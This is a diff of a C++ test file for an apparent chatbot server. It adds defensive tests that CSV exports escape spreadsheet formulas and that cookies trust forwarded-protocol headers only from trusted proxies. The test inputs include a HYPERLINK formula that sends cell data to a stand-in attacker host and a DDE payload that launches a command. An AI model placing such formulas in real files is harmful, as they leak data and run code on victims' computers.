@@ -4,6 +4,7 @@
 // Elsewhere: LLM03 supply chain (tests/guard/model_hash_test.cpp), LLM05 improper output handling (markdown image
 // exfiltration, tests/web/unit/markdown.test.ts), LLM02 sensitive information (tests/guard/pii_test.cpp and the
 // redacted export below).
+#include "auth/passwords.h"
 #include "security/server_fixture.h"
 
 namespace parley::security_test {
@@ -89,6 +90,20 @@ TEST_F(Attacks, ExportsRedactPersonalDataWhenAskedOrConfigured) {
   EXPECT_THAT(configured.body, HasSubstr("4111 1111 1111 1111"));
 }
 
+// A visitor's message that a spreadsheet would run as a formula, hidden behind a leading tab or carriage return
+// (which spreadsheets skip), reaches the CSV export with an apostrophe in front.
+TEST_F(Attacks, CsvExportNeutralisesFormulasBehindATabOrCarriageReturn) {
+  for (const char* message : {"\t=HYPERLINK(\"http://evil.example/?\"&A1,\"shipping\")", "\r=cmd|' /C calc'!A0"}) {
+    ASSERT_EQ(chat(bot_, {{"message", message}}).status, 200) << message;
+  }
+  const auto exported = client_->request("GET", "/api/v1/bots/" + bot_ + "/conversations/export?format=csv", "", auth(key_a_));
+  ASSERT_EQ(exported.status, 200) << exported.body;
+  EXPECT_THAT(exported.body, HasSubstr(",\"'\t=HYPERLINK(")) << exported.body;
+  EXPECT_THAT(exported.body, HasSubstr(",\"'\r=cmd|")) << exported.body;
+  EXPECT_THAT(exported.body, Not(HasSubstr(",\"\t="))) << exported.body;
+  EXPECT_THAT(exported.body, Not(HasSubstr(",\"\r="))) << exported.body;
+}
+
 TEST_F(Attacks, AnalyticsRedactVisitorsPersonalDataUnlessTheBotTurnsItOff) {
   const auto unanswered = chat(bot_, {{"message", "Can you lend me a zebra? Write to jo@example.org or +44 20 7946 0958"}});
   ASSERT_EQ(unanswered.status, 200);
@@ -135,6 +150,48 @@ TEST_F(Attacks, AuditLogRecordsChangesForOwnersOnly) {
     return {};
   }).ok());
   EXPECT_EQ(client_->request("GET", "/api/v1/audit", "", auth(viewer_key)).status, 403);
+}
+
+
+// The session cookie is Secure when the sign-in came over https, which only a TLS-terminating proxy can say (in
+// X-Forwarded-Proto): the header counts from a configured trusted proxy and from nobody else.
+class SessionCookie : public ServerFixture {
+ protected:
+  std::string sign_in_cookie(const std::vector<std::string>& trusted_proxies) {
+    auto limits = generous();
+    limits.trusted_proxies = std::move(limits::TrustedProxies::parse(trusted_proxies)).value();
+    start(limits);
+    EXPECT_TRUE(store_->write(store::Scope::workspace(workspace_a_), [&](store::WriteTx& tx) -> Status {
+      store::User user;
+      user.workspace_id = workspace_a_;
+      user.email = "owner@example.com";
+      user.role = store::Role::owner;
+      PARLEY_ASSIGN_OR_RETURN(user.password_hash, auth::hash_password("a long enough password"));
+      PARLEY_TRY(tx.create_user(user));
+      return {};
+    }).ok());
+    const auto login = client_->request(
+        "POST", "/api/v1/auth/login", nlohmann::json{{"email", "owner@example.com"}, {"password", "a long enough password"}}.dump(),
+        {{"Content-Type", "application/json"}, {"X-Forwarded-Proto", "https"}});
+    EXPECT_EQ(login.status, 200) << login.body;
+    return login.headers.count("Set-Cookie") ? login.headers.at("Set-Cookie") : "";
+  }
+};
+
+TEST_F(SessionCookie, SecureFollowsXForwardedProtoFromATrustedProxy) {
+  const std::string cookie = sign_in_cookie({"127.0.0.0/8"});  // the test's own connection comes from loopback
+  EXPECT_THAT(cookie, HasSubstr("HttpOnly"));
+  EXPECT_THAT(cookie, HasSubstr("; Secure"));
+}
+
+TEST_F(SessionCookie, XForwardedProtoFromAnUntrustedPeerIsIgnored) {
+  const std::string cookie = sign_in_cookie({"10.0.0.0/8"});
+  EXPECT_THAT(cookie, HasSubstr("HttpOnly"));
+  EXPECT_THAT(cookie, Not(HasSubstr("Secure")));
+}
+
+TEST_F(SessionCookie, XForwardedProtoWithoutTrustedProxiesIsIgnored) {
+  EXPECT_THAT(sign_in_cookie({}), Not(HasSubstr("Secure")));
 }
 
 }  // namespace
